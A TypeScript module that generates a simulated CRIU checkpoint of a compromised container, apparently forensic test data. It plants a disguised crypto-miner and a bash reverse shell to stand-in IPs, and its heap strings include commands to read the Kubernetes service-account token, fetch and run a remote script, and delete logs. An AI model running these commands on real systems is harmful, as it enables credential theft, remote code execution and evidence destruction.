/**
 * The CRIU dump inside a simulated checkpoint: a small, realistic intrusion scenario.
 *
 *   pid 1  sh        /bin/sh /app/entrypoint.sh        (the container's entrypoint; its heap is the padding)
 *   pid 7  kworkerd  /tmp/.x/kworkerd -o stratum+tcp://198.51.100.7:3333 …   (a miner, threads 7 and 8,
 *                    fd 3 = TCP ESTABLISHED to 198.51.100.7:3333, fds 4/5 = a unix socketpair)
 *   pid 9  bash      bash -i                         (fds 0/1/2 = one TCP socket to 203.0.113.50:4444:
 *                    the classic reverse-shell indicator)
 *
 * Every image is a real CRIU encoding (see criu-images.ts). Memory is laid out the way CRIU lays it
 * out: mm-<pid>.img lists VMAs and mm_arg_start/end, mm_env_start/end; pagemap-<pid>.img starts
 * with a head {pages_id} and lists {vaddr, nr_pages, flags=PE_PRESENT}; pages-<pages_id>.img holds
 * the present pages back to back in pagemap order, so the byte at virtual address A lives at
 * (sum of nr_pages*4096 of earlier entries) + (A - entry.vaddr). argv/env strings really are at the
 * top of the stack, at the offsets that arithmetic gives. pages_id counts from 1 in dump order
 * (CRIU's page_ids counter), so pages-1.img belongs to pid 1, whose heap carries the padding.
 * Page contents are AES-128-CTR keystream (deterministic per container and pid) with the strings
 * patched in, generated in 1 MiB chunks: memory use does not grow with the archive.
 */
import { createCipheriv, createHash } from 'node:crypto';
import {
  FD_TYPE, MAGIC, MAP, MARCH, NO_FOWN, PAGE_SIZE, PE, PROT, RLIM_INFINITY, TASK_ALIVE, VMA,
  criuImage, encodeCore, encodeFdinfo, encodeFileEntry, encodeFs, encodeIds, encodeMm, encodePagemapEntry,
  encodePagemapHead, encodePstree, encodeThreadInfoX86, inventoryImage, statsImage,
  type CredsEntry, type DumpStats, type FileEntry, type TaskKobjIds, type VmaEntry,
} from './criu-images.js';

export const MINER_POOL = { ip: '198.51.100.7', port: 3333 } as const;
export const REVERSE_SHELL = { ip: '203.0.113.50', port: 4444 } as const;
export const MINER_WALLET = '4' + 'AmberSimWa11etNotReal'.padEnd(94, 'x').slice(0, 94);
export const MIN_PAGES_BYTES = 4 * PAGE_SIZE;
/** The miner's config: in its heap and, as tmp/.x/config.json, in rootfs-diff.tar. */
export const MINER_CONFIG = `{"autosave":true,"cpu":{"enabled":true,"max-threads-hint":100},"pools":[{"url":"${MINER_POOL.ip}:${MINER_POOL.port}","user":"${MINER_WALLET}","pass":"x","keepalive":true}]}`;

export interface DumpInput {
  /** Seeds the page contents (use the container id: same container → same pages). */
  seed: string;
  /** Size of pages-1.img (rounded up to whole pages, at least 16 KiB). */
  pagesBytes: number;
  podName: string;
  podIP: string;
  /** Extra environment of the container (NAME=value), appended to pid 1's env. */
  env: string[];
  /** Time of the dump, ms since the epoch (only used for dump_uptime / log lines). */
  now: number;
}

export interface PagemapRun { vaddr: number; nrPages: number; offset: number }
export interface DumpedProcess {
  pid: number; comm: string; argv: string[]; env: string[]; pagesFile: string; pagesSize: number;
  pagemap: PagemapRun[]; argStart: number; argEnd: number; envStart: number; envEnd: number;
}
export interface PagesFile { name: string; size: number; write(sink: ByteSink): Promise<void> }
export interface ByteSink { write(chunk: Buffer): boolean; once(event: 'drain', cb: () => void): unknown }
/** images + pages go into `checkpoint/`; statsDump is the top-level `stats-dump` (CRIU's work dir). */
export interface CriuDump { images: { name: string; data: Buffer }[]; pages: PagesFile[]; processes: DumpedProcess[]; stats: DumpStats; statsDump: Buffer }

const BASE_ENV = ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', 'KUBERNETES_SERVICE_HOST=10.96.0.1',
  'KUBERNETES_SERVICE_PORT=443', 'KUBERNETES_PORT=tcp://10.96.0.1:443', 'HOME=/home/app'];
const HEAP_RUN = 512; // pages per pagemap run before a one-page hole
const STACK_PAGES = 3;
const O_RDONLY = 0, O_WRONLY = 1, O_RDWR = 2, O_LARGEFILE = 0o100000;

interface Proc {
  pid: number; ppid: number; pgid: number; sid: number; threads: number[]; comm: string; exeId: number; argv: string[]; env: string[];
  uid: number; cwdId: number; heapPages: number; heapStrings: string[]; fds: { fd: number; file: number; type: number }[];
}

/** files.img: every open file, cwd/root directory and exe of the tree. */
function filesTable(podIP: string, execSize: number): FileEntry[] {
  const reg = (id: number, name: string, mode: number, size: number | undefined, flags = O_RDONLY | O_LARGEFILE): FileEntry =>
    ({ type: FD_TYPE.REG, id, reg: { id, flags, pos: 0, fown: NO_FOWN, name, size, mode } });
  const opts = { sndbuf: 87040, rcvbuf: 131072 };
  const tcp = (id: number, ino: number, srcPort: number, dst: { ip: string; port: number }): FileEntry => ({
    type: FD_TYPE.INETSK, id, isk: { id, ino, family: 2, type: 1, proto: 6, state: 1, srcPort, dstPort: dst.port, flags: O_RDWR,
      backlog: 0, srcAddr: podIP, dstAddr: dst.ip, fown: NO_FOWN, opts } });
  const unix = (id: number, ino: number, peer: number): FileEntry => ({
    type: FD_TYPE.UNIXSK, id, usk: { id, ino, type: 1, state: 1, flags: O_RDWR, uflags: 0, backlog: 0, peer, fown: NO_FOWN, opts: { sndbuf: 212992, rcvbuf: 212992 }, name: Buffer.alloc(0) } });
  return [
    reg(1, '/usr/bin/dash', 0o100755, 125560),
    reg(2, '/usr/lib/x86_64-linux-gnu/libc.so.6', 0o100755, 1922136),
    reg(3, '/tmp/.x/kworkerd', 0o100755, execSize),
    reg(4, '/usr/bin/bash', 0o100755, 1265648),
    reg(5, '/', 0o40755, undefined),
    reg(6, '/app', 0o40755, undefined),
    reg(7, '/tmp/.x', 0o40755, undefined),
    reg(8, '/dev/null', 0o20666, undefined),
    { type: FD_TYPE.PIPE, id: 9, pipe: { id: 9, pipeId: 1181240, flags: O_WRONLY, fown: NO_FOWN } },
    tcp(10, 1183390, 48212, MINER_POOL),
    unix(11, 1183402, 1183403),
    unix(12, 1183403, 1183402),
    reg(13, '/tmp/.x/config.json', 0o100644, Buffer.byteLength(MINER_CONFIG)),
    tcp(14, 1183417, 51876, REVERSE_SHELL),
    reg(15, '/tmp', 0o41777, undefined),
  ];
}

function processes(input: DumpInput): Proc[] {
  const podEnv = [...BASE_ENV, `HOSTNAME=${input.podName}`, ...input.env];
  const pid1Pages = Math.ceil(Math.max(input.pagesBytes, MIN_PAGES_BYTES) / PAGE_SIZE);
  const std = (file: number) => [{ fd: 0, file: 8, type: FD_TYPE.REG }, { fd: 1, file, type: FD_TYPE.PIPE }, { fd: 2, file, type: FD_TYPE.PIPE }];
  return [
    { pid: 1, ppid: 0, pgid: 1, sid: 1, threads: [1], comm: 'sh', exeId: 1, argv: ['/bin/sh', '/app/entrypoint.sh'], env: podEnv, uid: 1000,
      cwdId: 6, heapPages: pid1Pages - STACK_PAGES, fds: std(9),
      heapStrings: [`GET /healthz HTTP/1.1\r\nHost: ${input.podIP}:8080\r\nUser-Agent: kube-probe/1.31\r\nAccept: */*\r\n\r\n`] },
    { pid: 7, ppid: 1, pgid: 1, sid: 1, threads: [7, 8], comm: 'kworkerd', exeId: 3, uid: 1000, cwdId: 7, heapPages: 48,
      argv: ['/tmp/.x/kworkerd', '-o', `stratum+tcp://${MINER_POOL.ip}:${MINER_POOL.port}`, '-u', MINER_WALLET, '-p', 'x', '--donate-level=0', '-t', '2'],
      env: [...BASE_ENV, `HOSTNAME=${input.podName}`, 'PWD=/tmp/.x', 'OLDPWD=/app'],
      fds: [...std(9), { fd: 3, file: 10, type: FD_TYPE.INETSK }, { fd: 4, file: 11, type: FD_TYPE.UNIXSK },
        { fd: 5, file: 12, type: FD_TYPE.UNIXSK }, { fd: 6, file: 13, type: FD_TYPE.REG }],
      heapStrings: [
        `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"${MINER_WALLET}","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0","algo":["rx/0"]}}\n`,
        MINER_CONFIG,
      ] },
    { pid: 9, ppid: 1, pgid: 9, sid: 1, threads: [9], comm: 'bash', exeId: 4, argv: ['bash', '-i'], uid: 1000, cwdId: 15, heapPages: 24,
      env: [...BASE_ENV, `HOSTNAME=${input.podName}`, 'PWD=/tmp', 'SHELL=/bin/bash'],
      fds: [0, 1, 2].map((fd) => ({ fd, file: 14, type: FD_TYPE.INETSK })),
      heapStrings: ['id\nuname -a\ncat /var/run/secrets/kubernetes.io/serviceaccount/token\n',
        `curl -fsSL http://${MINER_POOL.ip}/x.sh -o /tmp/.x/x.sh && sh /tmp/.x/x.sh\nrm -f /var/log/app/access.log\n`] },
  ];
}

interface Layout {
  vmas: VmaEntry[]; runs: PagemapRun[]; patches: { offset: number; bytes: Buffer }[]; size: number;
  argStart: number; argEnd: number; envStart: number; envEnd: number; startBrk: number; brk: number;
  exeBase: number; stackEnd: number; sp: number;
}

function layout(p: Proc, index: number): Layout {
  const exeBase = 0x5581f3a00000 + index * 0x1000000000;
  const libcBase = 0x7f3c1e400000 - index * 0x200000000;
  const stackEnd = 0x7ffe1a2b3000 - index * 0x100000000;
  const heapStart = exeBase + 0x2a54000;
  const holes = Math.floor((p.heapPages - 1) / HEAP_RUN);
  const heapEnd = heapStart + (p.heapPages + holes + 1) * PAGE_SIZE;
  const rwAnon = { pgoff: 0, shmid: 0, prot: PROT.READ | PROT.WRITE, flags: MAP.PRIVATE | MAP.ANONYMOUS, fd: -1 };
  const vmas: VmaEntry[] = [
    { start: exeBase, end: exeBase + 0x1d000, pgoff: 0, shmid: p.exeId, prot: PROT.READ | PROT.EXEC, flags: MAP.PRIVATE, status: VMA.REGULAR | VMA.FILE_PRIVATE, fd: -1 },
    { start: exeBase + 0x1e000, end: exeBase + 0x20000, pgoff: 0x1e000, shmid: p.exeId, prot: PROT.READ | PROT.WRITE, flags: MAP.PRIVATE, status: VMA.REGULAR | VMA.FILE_PRIVATE, fd: -1 },
    { start: heapStart, end: heapEnd, ...rwAnon, status: VMA.REGULAR | VMA.ANON_PRIVATE | VMA.HEAP },
    { start: libcBase, end: libcBase + 0x195000, pgoff: 0x28000, shmid: 2, prot: PROT.READ | PROT.EXEC, flags: MAP.PRIVATE, status: VMA.REGULAR | VMA.FILE_PRIVATE, fd: -1 },
    { start: stackEnd - 0x21000, end: stackEnd, ...rwAnon, flags: MAP.PRIVATE | MAP.ANONYMOUS | MAP.GROWSDOWN, status: VMA.REGULAR | VMA.ANON_PRIVATE },
  ];
  const runs: PagemapRun[] = [];
  let offset = 0;
  for (let done = 0, vaddr = heapStart; done < p.heapPages;) {
    const n = Math.min(HEAP_RUN, p.heapPages - done);
    runs.push({ vaddr, nrPages: n, offset });
    offset += n * PAGE_SIZE; done += n; vaddr += (n + 1) * PAGE_SIZE; // one-page hole: never touched, not dumped
  }
  const stackRun = { vaddr: stackEnd - STACK_PAGES * PAGE_SIZE, nrPages: STACK_PAGES, offset };
  runs.push(stackRun);
  const size = offset + STACK_PAGES * PAGE_SIZE;
  // Top of the stack, as execve leaves it: argv strings, env strings, the exec filename, 8 zero bytes.
  const args = Buffer.from(p.argv.map((a) => a + '\0').join(''));
  const envs = Buffer.from(p.env.map((e) => e + '\0').join(''));
  const execfn = Buffer.from((p.argv[0] ?? p.comm) + '\0');
  const top = Buffer.concat([args, envs, execfn, Buffer.alloc(8)]);
  if (top.length > STACK_PAGES * PAGE_SIZE - 512) throw new Error('sim: argv/env do not fit the dumped stack pages');
  const argStart = stackEnd - top.length;
  const patches = [{ offset: stackRun.offset + (argStart - stackRun.vaddr), bytes: top }];
  let heapOff = 64;
  for (const s of p.heapStrings) {
    patches.push({ offset: heapOff, bytes: Buffer.from(s + '\0') });
    heapOff += Buffer.byteLength(s) + 64;
  }
  return {
    vmas, runs, patches, size, argStart, argEnd: argStart + args.length, envStart: argStart + args.length,
    envEnd: argStart + args.length + envs.length, startBrk: heapStart, brk: heapEnd - PAGE_SIZE, exeBase, stackEnd,
    sp: stackRun.vaddr + 0x3a0,
  };
}

const CHUNK = 1 << 20;
const ZEROS = Buffer.alloc(CHUNK);

function pagesWriter(seed: string, pid: number, l: Layout): (sink: ByteSink) => Promise<void> {
  return async (sink) => {
    const key = createHash('sha256').update(`${seed}:${pid}`).digest().subarray(0, 16);
    const cipher = createCipheriv('aes-128-ctr', key, Buffer.alloc(16));
    for (let off = 0; off < l.size; off += CHUNK) {
      const n = Math.min(CHUNK, l.size - off);
      const chunk = cipher.update(ZEROS.subarray(0, n));
      for (const p of l.patches) {
        const from = Math.max(p.offset, off), to = Math.min(p.offset + p.bytes.length, off + n);
        if (from < to) p.bytes.copy(chunk, from - off, from - p.offset, to - p.offset);
      }
      if (!sink.write(chunk)) await new Promise<void>((resolve) => sink.once('drain', resolve));
    }
  };
}

const creds = (uid: number): CredsEntry => ({ uid, gid: uid, euid: uid, egid: uid, suid: uid, sgid: uid, fsuid: uid, fsgid: uid,
  capInh: [0, 0], capPrm: [0, 0], capEff: [0, 0], capBnd: [0xa80425fb, 0], secbits: 0, groups: [uid] });
const CRIU_IDS: TaskKobjIds = { vmId: 1, filesId: 1, fsId: 1, sighandId: 1, pidNsId: 1, netNsId: 2, ipcNsId: 3, utsNsId: 4, mntNsId: 5, userNsId: 6, cgroupNsId: 7 };

export function buildCriuDump(input: DumpInput): CriuDump {
  const procs = processes(input);
  const files = filesTable(input.podIP, 49_152);
  const images: { name: string; data: Buffer }[] = [];
  const pages: PagesFile[] = [];
  const out: DumpedProcess[] = [];
  const add = (name: string, data: Buffer) => images.push({ name, data });
  add('inventory.img', inventoryImage({ imgVersion: 2, fdinfoPerId: true, rootIds: CRIU_IDS, nsPerId: true, lsmtype: 0, dumpUptime: 8_640_000_000 + (input.now % 1_000_000) }));
  add('pstree.img', criuImage(MAGIC.PSTREE, procs.map((p) => encodePstree(p))));
  // Not a CRIU image: runc/crun record where the init process' stdio pointed, for restore.
  add('descriptors.json', Buffer.from(JSON.stringify(['/dev/null', 'pipe:[1181240]', 'pipe:[1181240]'])));
  add('files.img', criuImage(MAGIC.FILES, files.map(encodeFileEntry)));
  let totalPages = 0;
  procs.forEach((p, i) => {
    const l = layout(p, i);
    const pagesId = i + 1, objId = i + 2;
    const ids: TaskKobjIds = { vmId: objId, filesId: objId, fsId: objId, sighandId: objId, pidNsId: 8, netNsId: 9, ipcNsId: 10, utsNsId: 11, mntNsId: 12, userNsId: 6, cgroupNsId: 13 };
    for (const tid of p.threads) {
      const leader = tid === p.pid;
      add(`core-${tid}.img`, criuImage(MAGIC.CORE, [encodeCore({
        mtype: MARCH.X86_64,
        threadInfoX86: encodeThreadInfoX86({ ip: l.exeBase + 0x4f31 + tid, sp: l.sp - (leader ? 0 : 0x8000), bp: 0, ax: -512, orig_ax: leader ? 61 : 202, fs_base: l.exeBase + 0x21740 }, 0),
        tc: leader ? {
          taskState: TASK_ALIVE, exitCode: 0, personality: 0, flags: p.pid === 1 ? 0x400100 : 0x400040, blkSigset: 0, comm: p.comm,
          timers: { real: { isec: 0, iusec: 0, vsec: 0, vusec: 0 }, virt: { isec: 0, iusec: 0, vsec: 0, vusec: 0 }, prof: { isec: 0, iusec: 0, vsec: 0, vusec: 0 } },
          rlimits: Array.from({ length: 16 }, (_, r) => r === 7 ? { cur: 1_048_576, max: 1_048_576 } : r === 3 ? { cur: 8_388_608, max: RLIM_INFINITY } : { cur: RLIM_INFINITY, max: RLIM_INFINITY }),
          signalsS: true, loginuid: 0xffffffff, oomScoreAdj: 1000, childSubreaper: false,
        } : undefined,
        threadCore: { futexRla: 0, futexRlaLen: 24, schedNice: 0, schedPolicy: 0, signalsP: true, creds: creds(p.uid), comm: p.comm },
      })]));
    }
    add(`ids-${p.pid}.img`, criuImage(MAGIC.IDS, [encodeIds(ids)]));
    add(`fs-${p.pid}.img`, criuImage(MAGIC.FS, [encodeFs({ cwdId: p.cwdId, rootId: 5, umask: 0o22 })]));
    add(`fdinfo-${ids.filesId}.img`, criuImage(MAGIC.FDINFO, p.fds.map((f) => encodeFdinfo({ id: f.file, flags: 0, type: f.type, fd: f.fd }))));
    add(`mm-${p.pid}.img`, criuImage(MAGIC.MM, [encodeMm({
      mmStartCode: l.exeBase, mmEndCode: l.exeBase + 0x1c9a1, mmStartData: l.exeBase + 0x1ed10, mmEndData: l.exeBase + 0x1f2a0,
      mmStartStack: l.sp + 0x40, mmStartBrk: l.startBrk, mmBrk: l.brk, mmArgStart: l.argStart, mmArgEnd: l.argEnd,
      mmEnvStart: l.envStart, mmEnvEnd: l.envEnd, exeFileId: p.exeId,
      mmSavedAuxv: [33, l.stackEnd - 0x7000, 16, 0x178bfbff, 6, 4096, 17, 100, 3, l.exeBase + 64, 4, 56, 5, 13, 7, 0x7f3c1e5d2000, 8, 0, 9, l.exeBase + 0x4c10, 11, p.uid, 12, p.uid, 13, p.uid, 14, p.uid, 23, 0, 0, 0],
      vmas: l.vmas, dumpable: 1, thpDisabled: false,
    })]));
    add(`pagemap-${p.pid}.img`, criuImage(MAGIC.PAGEMAP, [encodePagemapHead(pagesId),
      ...l.runs.map((r) => encodePagemapEntry({ vaddr: r.vaddr, nrPages: r.nrPages, flags: PE.PRESENT }))]));
    pages.push({ name: `pages-${pagesId}.img`, size: l.size, write: pagesWriter(input.seed, p.pid, l) });
    totalPages += l.size / PAGE_SIZE;
    out.push({ pid: p.pid, comm: p.comm, argv: p.argv, env: p.env, pagesFile: `pages-${pagesId}.img`, pagesSize: l.size,
      pagemap: l.runs, argStart: l.argStart, argEnd: l.argEnd, envStart: l.envStart, envEnd: l.envEnd });
  });
  const memwrite = Math.round((totalPages * PAGE_SIZE) / 1400); // ~1.4 GB/s, in µs
  const stats: DumpStats = {
    freezingTime: 611, frozenTime: 0, memdumpTime: 900 + Math.round(totalPages / 8), memwriteTime: memwrite,
    pagesScanned: totalPages * 3 + 4096, pagesSkippedParent: 0, pagesWritten: totalPages, irmapResolve: 0, pagesLazy: 0,
    pagePipes: procs.length, pagePipeBufs: procs.length + Math.floor(totalPages / 16384), shpagesScanned: 0, shpagesSkippedParent: 0, shpagesWritten: 0,
  };
  stats.frozenTime = stats.freezingTime + stats.memdumpTime + stats.memwriteTime + 14_250;
  images.sort((a, b) => (a.name < b.name ? -1 : 1));
  return { images, pages, processes: out, stats, statsDump: statsImage(stats) };
}
